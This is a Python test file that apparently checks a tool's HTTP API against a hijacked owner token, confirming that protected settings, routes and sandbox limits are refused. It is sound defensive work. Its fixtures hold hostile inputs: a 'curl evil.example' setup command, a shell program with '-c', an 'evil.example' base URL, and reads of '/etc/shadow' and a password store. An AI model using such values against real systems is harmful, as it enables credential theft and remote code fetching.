"""A hijacked owner token over HTTP: every route that writes and every setting, and none opens the walls."""

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from pydantic import JsonValue

from midwatch.compose.house import House
from midwatch.settings import KEYS, SettingKey, key_named
from midwatch.settings.reach import SettingReach
from midwatch.surfaces.api.app import make_app
from midwatch.surfaces.api.route_reach import WRITES, RouteReach
from midwatch.terms.people import Role, Scope
from midwatch.terms.records import PersonRow, SettingsRow, TokenRow
from tests.nights.house import TestHouse, a_house, sample_repository
from tests.settings.samples import samples
from tests.surfaces.visitor import Visitor, token, visiting, welcome

NAMED: dict[str, JsonValue] = {
    "agents.claude.provider": "openai",
    "agents.claude.secret": "owl",
    "agents.claude.credential": "oauth",
    "agents.claude.program": "/bin/sh",
    "agents.claude.words": ["-c"],
    "agents.claude.speaks": "command",
    "agents.claude.base_url": "https://evil.example",
    "agents.claude.model": "claude-haiku-4-5",
    "agents.claude.also_models": ["claude-haiku-4-5"],
    "channels.phone.url": "env:PHONE",
    "channels.phone.quiet": False,
    "forges.github.host": "evil.example",
    "forges.github.secret": "owl",
    "forges.github.labels": ["night"],
    "prices.anthropic/claude-x": [0, 0],
    "secrets.owl": "env:HOME",
}


class Hijacked:
    """Whoever has an owner's token, and nothing else."""

    def __init__(self, visitor: Visitor, headers: dict[str, str]) -> None:
        self._visitor, self._headers = visitor, headers

    async def send(self, method: str, path: str, body: Any = None) -> httpx.Response:
        return await self._visitor.api(method, path, body, **self._headers)


@pytest.fixture
async def house(tmp_path: Path) -> AsyncIterator[TestHouse]:
    async with a_house(tmp_path / "home") as opened:
        yield opened


@pytest.fixture
async def thief(house: TestHouse) -> AsyncIterator[Hijacked]:
    async with visiting(house.house) as ann, visiting(house.house) as visitor:
        await welcome(house.house, ann)
        yield Hijacked(visitor, await token(house.house, "ann", *Scope))


def at_the_machine(house: House) -> httpx.AsyncClient:
    """The owner's socket."""
    return httpx.AsyncClient(transport=httpx.ASGITransport(make_app(house)), base_url="http://localhost")


def every_setting() -> list[tuple[SettingKey, JsonValue]]:
    return [(KEYS[name], samples(KEYS[name])[0]) for name in KEYS] + [(key_named(n), v) for n, v in NAMED.items()]


async def test_no_setting_that_opens_the_walls_is_changed_by_token(house: TestHouse, thief: Hijacked) -> None:
    before = house.house.loaded.values
    refused = set()
    for key, value in every_setting():
        answer = await thief.send("POST", "/settings/proposals", {"changes": {key.name: value}})
        assert answer.status_code in {200, 400}, (key.name, answer.text)
        assert (answer.status_code == 400) or key.reach.by_network, key.name
        if not key.reach.storable:
            assert "midwatch.toml" in answer.text, (key.name, answer.text)
            assert "settings propose" not in answer.text, "that is refused as well"
        if not key.reach.by_network:
            refused.add(key.name)
    assert {"sandbox.isolation", "sandbox.toolchains", "sandbox.registries", "secrets.owl"} <= refused
    assert not {name for row in await house.house.records.find(SettingsRow) for name in row.changes} & refused
    assert house.house.loaded.values == before, "a proposal changes nothing"


async def test_what_the_machine_proposed_is_not_applied_by_token(house: TestHouse, thief: Hijacked) -> None:
    async with at_the_machine(house.house) as owner:
        change = {"changes": {"sandbox.domains": ["evil.example"], "rounds.max_proposals": 4}}
        assert (await owner.post("/api/v1/settings/proposals", json=change)).status_code == 200
        assert (await thief.send("POST", "/settings/proposals/1/apply")).status_code == 400
        assert not house.house.loaded.settings.sandbox.domains
        assert (await owner.post("/api/v1/settings/proposals/1/apply")).status_code == 200
    assert house.house.loaded.settings.sandbox.domains == ("evil.example",)


async def test_every_route_that_writes_does_what_its_line_says(house: TestHouse, thief: Hijacked) -> None:
    bodies: dict[str, Any] = {
        "/agents/{name}/trial": {"reference": "file:/etc/shadow"},
        "/agents/{name}/credential": {"reference": "env:HOME"},
        "/people/links": {"role": "owner"},
        "/people/{name}": {"role": "owner"},
        "/tokens": {"name": "more", "scopes": ["read"], "person": "ann"},
    }
    people = await house.house.records.find(PersonRow)
    for route, reach in WRITES.items():
        method, path = route.split(" ")
        answer = await thief.send(
            method, path.replace("{name}", "ann").replace("{", "").replace("}", ""), bodies.get(path, {})
        )
        assert answer.status_code < 500, (route, answer.text)
        if reach is RouteReach.MACHINE or (reach is RouteReach.ACCESS and route != "DELETE /tokens/{name}"):
            assert answer.status_code == 403, (route, answer.text)
    assert await house.house.records.find(PersonRow) == people
    assert len(await house.house.records.find(TokenRow)) == 1
    assert await house.house.records.find(SettingsRow) == ()


async def test_a_place_of_secrets_is_no_project(
    house: TestHouse, thief: Hijacked, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "ann"))
    store = sample_repository(tmp_path / "ann" / ".password-store")
    (tmp_path / "innocent").symlink_to(store)
    for path in (store, tmp_path / "innocent", house.house.home):
        answer = await thief.send("POST", "/projects", {"path": str(path)})
        assert (answer.status_code, "cannot be used" in answer.text) == (400, True), answer.text
    fine = await thief.send("POST", "/projects", {"path": str(sample_repository(tmp_path / "ann" / "shop"))})
    assert fine.status_code == 200


async def test_orders_by_token_reach_no_host_that_the_machine_did_not_grant(
    house: TestHouse, thief: Hijacked, tmp_path: Path
) -> None:
    await house.project(sample_repository(tmp_path / "repo"))
    work = '[[work]]\nproject = "sample"\ntitle = "t"\n'
    text = f'level = "observe"\ngoals = ["g"]\n[permissions]\ndomains = ["evil.example"]\n{work}'
    drafted = (await thief.send("PUT", "/orders", {"toml": text})).json()
    signed = await thief.send("POST", "/sessions/start", {"shown_hash": drafted["shown_hash"]})
    assert (signed.status_code, "evil.example" in signed.text) == (403, True)
    assert key_named("ceilings.domains").reach is SettingReach.WALLS
    for body in ({"usd": 500}, {"yes": True}, {"minutes": 100_000}):
        said = await thief.send("POST", "/code", {"sentence": "Tidy", "projects": ["sample"]} | body)
        assert (said.status_code, "an owner granted" in said.text) == (403, True), said.text


async def test_a_former_owner_has_no_link_in_store(house: TestHouse, thief: Hijacked) -> None:
    async with visiting(house.house) as eve, visiting(house.house) as later, visiting(house.house) as ann:
        await welcome(house.house, eve, "eve", Role.OWNER)
        made = (await eve.api("POST", "/people/links", {"role": "owner"})).json()
        key = made["path"].partition("key=")[2]
        await welcome(house.house, ann, "bea", Role.OWNER)
        assert (await thief.send("DELETE", "/people/eve")).status_code == 403
        assert (await ann.api("DELETE", "/people/eve")).status_code == 200
        opened = await later.post("/welcome", {"key": key, "name": "eve2", "password": "a quiet night of work"})
        assert opened.status_code == 401


async def test_a_former_owner_has_no_token_of_another(house: TestHouse, thief: Hijacked) -> None:
    async with visiting(house.house) as eve, visiting(house.house) as ann, visiting(house.house) as program:
        await welcome(house.house, ann, "bea", Role.OWNER)
        for ending in ("PATCH", "DELETE"):
            await welcome(house.house, eve, f"eve-{ending}", Role.OWNER)
            made = (await eve.api("POST", "/tokens", {"name": "kept", "person": "ann"})).json()
            carried = {"authorization": f"Bearer {made['secret']}"}
            assert (await program.api("GET", "/status", **carried)).status_code == 200
            ended = await ann.api(ending, f"/people/eve-{ending}", {"role": "viewer"} if ending == "PATCH" else None)
            assert ended.status_code == 200, ended.text
            assert (await program.api("GET", "/status", **carried)).status_code == 401
    assert (await thief.send("GET", "/status")).status_code == 200, "what other owners made stays"


async def test_a_project_gets_no_commands_by_token_beyond_granted_tools(
    house: TestHouse, thief: Hijacked, tmp_path: Path
) -> None:
    path = str(sample_repository(tmp_path / "repo"))
    row = (await house.project(Path(path), checks=("make old",))).id
    async with at_the_machine(house.house) as owner:
        change = {"changes": {"ceilings.tools": ["Read", "Bash(npm *)"]}}
        assert (await owner.post("/api/v1/settings/proposals", json=change)).status_code == 200
        assert (await owner.post("/api/v1/settings/proposals/1/apply")).status_code == 200
        narrowed = await owner.patch(f"/api/v1/projects/{row}", json={"tools": ["Read"]})
        assert narrowed.status_code == 200, "an owner is not bound"
    for more in ({"checks": ["make all"]}, {"setup": "curl evil.example"}, {"tools": ["Edit"]}, {"tools": ["all"]}):
        for said in (
            await thief.send("PATCH", f"/projects/{row}", more),
            await thief.send("POST", "/projects", {"path": path, "name": "other"} | more),
        ):
            allowed = said.request.method == "POST" and more == {"tools": ["all"]}
            assert (said.status_code, "an owner granted" in said.text) == ((200, False) if allowed else (403, True))
    inside = {"checks": ["make old", "npm test"], "setup": "npm ci", "tools": ["Read", "Bash(npm test *)"]}
    assert (await thief.send("PATCH", f"/projects/{row}", inside)).status_code == 200
